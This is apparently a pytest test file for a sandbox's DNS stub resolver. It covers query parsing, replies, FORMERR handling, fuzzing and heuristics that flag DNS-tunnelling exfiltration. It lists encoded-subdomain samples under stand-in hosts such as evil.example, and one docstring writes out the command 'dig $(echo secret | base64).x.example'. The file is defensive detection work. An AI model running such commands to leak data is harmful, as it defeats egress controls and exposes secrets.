"""DNS messages for the stub resolver: queries, answers, refusals, FORMERR, the
exfiltration heuristics, and fuzzing. dnspython builds the queries and reads the replies."""

from __future__ import annotations

import base64
from typing import Any

import dns.flags
import dns.message
import dns.name
import dns.opcode
import dns.rcode
import dns.rdataclass
import dns.rdatatype
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from corral.egress.dnsmsg import (
    DnsFormatError,
    Query,
    answer,
    exfiltration_signs,
    format_error,
    parse_query,
    refuse,
)


def wire(name: str | dns.name.Name, qtype: str = "A", **kwargs: Any) -> bytes:
    return dns.message.make_query(name, qtype, **kwargs).to_wire()


def read(data: bytes) -> dns.message.Message:
    return dns.message.from_wire(data)


# -- parsing queries ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "qtype", "expected_name"),
    [
        ("x.example", "A", "x.example"),
        ("X.Example.", "AAAA", "x.example"),
        ("pypi.org", "HTTPS", "pypi.org"),
        ("_sip._tcp.example.com", "SRV", "_sip._tcp.example.com"),
        ("4.3.2.1.in-addr.arpa", "PTR", "4.3.2.1.in-addr.arpa"),
        ("c2VjcmV0Cg==.x.example", "TXT", "c2vjcmv0cg==.x.example"),
        (".", "NS", ""),
        (dns.name.Name([b"a\x00b", b"A.B", b"example", b""]), "MX", "a\\000b.a\\.b.example"),
        (dns.name.Name([b"x", b"dot.", b""]), "A", "x.dot\\."),
        ("x.example", "TYPE65534", "x.example"),
    ],
)
def test_parse_query(name: str | dns.name.Name, qtype: str, expected_name: str) -> None:
    data = wire(name, qtype)
    query = parse_query(data)
    assert query == Query(read(data).id, expected_name, qtype, data)


def two_questions() -> bytes:
    message = dns.message.make_query("a.example", "A")
    message.find_rrset(
        message.question,
        dns.name.from_text("b.example"),
        dns.rdataclass.IN,
        dns.rdatatype.A,
        create=True,
    )
    return message.to_wire()


def no_question() -> bytes:
    return dns.message.Message().to_wire()


def response_bytes() -> bytes:
    return dns.message.make_response(dns.message.make_query("a.example", "A")).to_wire()


def opcode(code: dns.opcode.Opcode) -> bytes:
    message = dns.message.make_query("a.example", "SOA")
    message.set_opcode(code)
    return message.to_wire()


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b"", "malformed DNS message"),
        (b"\x12\x34\x01\x00", "malformed DNS message"),
        (wire("a.example")[:-1], "malformed DNS message"),
        (wire("a.example") + b"\x00", "malformed DNS message"),
        (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01\x00\x01", "malformed"),
        (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x41", "malformed"),
        (response_bytes(), "is a response"),
        (opcode(dns.opcode.NOTIFY), "NOTIFY is not supported"),
        (opcode(dns.opcode.UPDATE), "UPDATE is not supported"),
        (two_questions(), "has 2 questions"),
        (no_question(), "has 0 questions"),
    ],
)
def test_parse_query_refuses(data: bytes, fragment: str) -> None:
    with pytest.raises(DnsFormatError, match=fragment) as info:
        parse_query(data)
    assert isinstance(info.value, ValueError)


def test_every_truncation_of_a_query_is_a_format_error() -> None:
    data = wire("files.pythonhosted.org", "AAAA", use_edns=0)
    for cut in range(len(data)):
        with pytest.raises(DnsFormatError):
            parse_query(data[:cut])


# -- answers ------------------------------------------------------------------------------

ADDRESSES = ["93.184.215.14", "2606:2800:21f:cb07:6820:80da:af6b:8b2c", "10.0.0.1", "::1"]


@pytest.mark.parametrize(
    ("qtype", "addresses", "expected"),
    [
        ("A", ADDRESSES, ["93.184.215.14", "10.0.0.1"]),
        ("AAAA", ADDRESSES, ["2606:2800:21f:cb07:6820:80da:af6b:8b2c", "::1"]),
        ("A", ["10.0.0.1", "10.0.0.1"], ["10.0.0.1"]),
        ("A", ["::1"], []),
        ("AAAA", [], []),
        ("TXT", ADDRESSES, []),
        ("ANY", ADDRESSES, []),
    ],
)
def test_answer(qtype: str, addresses: list[str], expected: list[str]) -> None:
    data = wire("Mixed.Case.example", qtype)
    query = parse_query(data)
    reply = read(answer(query, addresses, ttl=30))
    request = read(data)
    assert reply.id == request.id
    assert reply.flags & dns.flags.QR
    assert reply.flags & dns.flags.RD
    assert reply.flags & dns.flags.RA
    assert reply.rcode() == dns.rcode.NOERROR
    assert reply.question == request.question
    if expected:
        [rrset] = reply.answer
        # The name is echoed as asked (case randomisation by 0x20-aware clients).
        assert rrset.name.to_text() == "Mixed.Case.example."
        assert rrset.rdtype == dns.rdatatype.from_text(qtype)
        assert rrset.ttl == 30
        assert sorted(rdata.to_text() for rdata in rrset) == sorted(expected)
    else:
        assert reply.answer == []


def test_answer_keeps_edns() -> None:
    query = parse_query(wire("a.example", "A", use_edns=0, payload=1232))
    reply = read(answer(query, ["10.0.0.1"]))
    assert reply.edns == 0
    assert reply.answer[0].ttl == 60


def test_answer_for_another_class_is_empty() -> None:
    message = dns.message.make_query("version.bind", "A", rdclass=dns.rdataclass.CH)
    reply = read(answer(parse_query(message.to_wire()), ["10.0.0.1"]))
    assert reply.answer == []
    assert reply.rcode() == dns.rcode.NOERROR


@pytest.mark.parametrize(
    ("addresses", "ttl"), [(["not-an-ip"], 60), (["10.0.0.1"], -1), (["10.0.0.1"], 2**31)]
)
def test_answer_refuses_bad_arguments(addresses: list[str], ttl: int) -> None:
    with pytest.raises(ValueError):
        answer(parse_query(wire("a.example")), addresses, ttl)


@pytest.mark.parametrize(
    ("rcode", "expected"), [("REFUSED", dns.rcode.REFUSED), ("NXDOMAIN", dns.rcode.NXDOMAIN)]
)
def test_refuse(rcode: str, expected: dns.rcode.Rcode) -> None:
    data = wire("evil.example", "TXT")
    reply = read(refuse(parse_query(data), rcode))
    assert reply.rcode() == expected
    assert reply.id == read(data).id
    assert reply.flags & dns.flags.QR
    assert reply.question == read(data).question
    assert reply.answer == []
    assert read(refuse(parse_query(data))).rcode() == dns.rcode.REFUSED


def test_refuse_only_refused_or_nxdomain() -> None:
    with pytest.raises(ValueError, match="SERVFAIL"):
        refuse(parse_query(wire("a.example")), "SERVFAIL")


# -- FORMERR ------------------------------------------------------------------------------


def test_format_error() -> None:
    data = b"\xbe\xef\x01\x00" + b"\x00\x01" + bytes(6) + b"\xff\xff"
    reply = format_error(data)
    assert reply is not None
    assert len(reply) == 12
    message = read(reply)
    assert message.id == 0xBEEF
    assert message.rcode() == dns.rcode.FORMERR
    assert message.opcode() == dns.opcode.QUERY
    assert message.flags & dns.flags.QR
    assert message.flags & dns.flags.RD
    assert message.question == []


def test_format_error_copies_opcode_and_not_other_bits() -> None:
    data = (0x1234).to_bytes(2, "big") + (0x2800 | 0x0400 | 0x0010).to_bytes(2, "big") + bytes(8)
    reply = format_error(data)
    assert reply is not None
    message = read(reply)
    assert message.opcode() == dns.opcode.UPDATE
    assert not message.flags & dns.flags.RD
    assert not message.flags & dns.flags.AA


@pytest.mark.parametrize(
    "data", [b"", b"\x12\x34", bytes(11), b"\x12\x34\x80\x00" + bytes(8), response_bytes()]
)
def test_no_format_error(data: bytes) -> None:
    assert format_error(data) is None


# -- exfiltration -------------------------------------------------------------------------

FLAGGED = [
    "c2VjcmV0Cg==.x.example",
    base64.b64encode(b"secret\n").decode() + ".x.example",
    "aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ.evil.example",
    "aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ.evil.example".lower(),
    "MFRGGZDFMZTWQ2LKNNWG23Q.x.example",
    "mfrggzdfmztwq2lknnwg23q.x.example",
    "0123456789abcdef0123456789abcdef0123456789abcdef01.x.example",  # 50 hex characters
    "deadbeef01234567.x.example",  # 16 hex characters
    "a" * 41 + ".example",
    ".".join(["abcdefghij"] * 11) + ".example",  # 121+ characters
    "a+b.example",
    "a/b.example",
    "a\\000b.example",
    "a b.example",
    "wqlvbsuw6t2eqtnf.x.example",  # base32 of random bytes, lower-cased
    "kiqunct70dr4opp9cw.x.example",  # base64 of random bytes, lower-cased
    "rkzzjtgj3qklu2v2m7xofba.x.example",
    "s6-wyiilnractfvvbspzqeqj.x.example",  # base64url, entropy >= 4 without digits
]

ORDINARY = [
    "pypi.org",
    "files.pythonhosted.org",
    "objects.githubusercontent.com",
    "registry.npmjs.org",
    "s3.us-west-2.amazonaws.com",
    "d1a2b3c4.cloudfront.net",
    "www.google-analytics.com",
    "_sip._tcp.example.com",
    "xn--bcher-kva.example",
    "api.openai.com",
    "1.2.3.4.in-addr.arpa",
    "ip-10-0-0-1.ec2.internal",
    "ec2-54-123-45-67.compute-1.amazonaws.com",
    "ip-172-31-22-148.ec2.internal",
    "prod-registry-k8s-io-us-east-1.s3.dualstack.us-east-1.amazonaws.com",
    "r3---sn-4g5e6nsz.googlevideo.com",
    "marketplace-visualstudio.example",
    "storageaccount123.blob.core.windows.net",
    "raw.githubusercontent.com",
    "applicationinsights.azure.com",
    "internationalization.example",
    "example.org.",
    "",
    "localhost",
]


@pytest.mark.parametrize("name", FLAGGED)
def test_exfiltration_flagged(name: str) -> None:
    why = exfiltration_signs(name)
    assert why is not None
    assert why.strip()


@pytest.mark.parametrize("name", ORDINARY)
def test_exfiltration_not_flagged(name: str) -> None:
    assert exfiltration_signs(name) is None


@pytest.mark.parametrize(
    ("name", "fragment"),
    [
        ("c2VjcmV0Cg==.x.example", "contains '='"),
        ("a" * 41 + ".example", "41 characters long"),
        (".".join(["abcdefghij"] * 11) + ".example", "name is 128 characters long"),
        ("aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ.x", "mixes upper case"),
        ("deadbeef01234567.x.example", "hex string"),
        ("mfrggzdfmztwq2lknnwg23q.x.example", "looks random"),
    ],
)
def test_exfiltration_reasons(name: str, fragment: str) -> None:
    why = exfiltration_signs(name)
    assert why is not None and fragment in why


def test_exfiltration_through_the_parser() -> None:
    """The canonical attack, as the resolver sees it: dig $(echo secret | base64).x.example."""
    query = parse_query(wire("c2VjcmV0Cg==.x.example", "A"))
    assert exfiltration_signs(query.name) is not None


# -- fuzzing ------------------------------------------------------------------------------


def check_replies(query: Query) -> None:
    assert query.name == query.name.lower()
    # The root's dot is dropped; a dot inside a label stays, escaped ("a\\.").
    assert not query.name.endswith(".") or query.name.endswith("\\.")
    request_id = read(query.wire).id
    assert query.id == request_id
    for reply in (answer(query, ADDRESSES), refuse(query), refuse(query, "NXDOMAIN")):
        message = read(reply)
        assert message.id == request_id
        assert message.flags & dns.flags.QR
        assert len(message.question) == 1


@settings(max_examples=200, deadline=None)
@given(data=st.binary(max_size=80))
def test_fuzz_arbitrary_bytes(data: bytes) -> None:
    try:
        query = parse_query(data)
    except DnsFormatError:
        reply = format_error(data)
        assert reply is None or (len(reply) == 12 and reply[:2] == data[:2])
    else:
        check_replies(query)


SEED_QUERIES = [
    wire("x.example", "A"),
    wire("files.pythonhosted.org", "AAAA", use_edns=0),
    wire("c2VjcmV0Cg==.x.example", "TXT"),
]


@settings(max_examples=200, deadline=None)
@given(
    seed=st.sampled_from(SEED_QUERIES),
    edits=st.lists(st.tuples(st.integers(0, 200), st.integers(0, 255)), min_size=1, max_size=3),
    cut=st.integers(0, 200),
)
def test_fuzz_mutated_queries(seed: bytes, edits: list[tuple[int, int]], cut: int) -> None:
    data = bytearray(seed)
    for at, value in edits:
        data[at % len(data)] = value
    data = data[: max(cut, 12)]
    try:
        query = parse_query(bytes(data))
    except DnsFormatError:
        assert format_error(bytes(data)) is None or data[2] & 0x80 == 0
    else:
        check_replies(query)
        assert isinstance(exfiltration_signs(query.name), str | None)


@settings(max_examples=200, deadline=None)
@given(name=st.text(max_size=150) | st.from_regex(r"[A-Za-z0-9=+/._-]{0,130}", fullmatch=True))
def test_fuzz_exfiltration_signs(name: str) -> None:
    why = exfiltration_signs(name)
    assert why is None or (isinstance(why, str) and why)
    if len(name.removesuffix(".")) > 120:
        assert why is not None
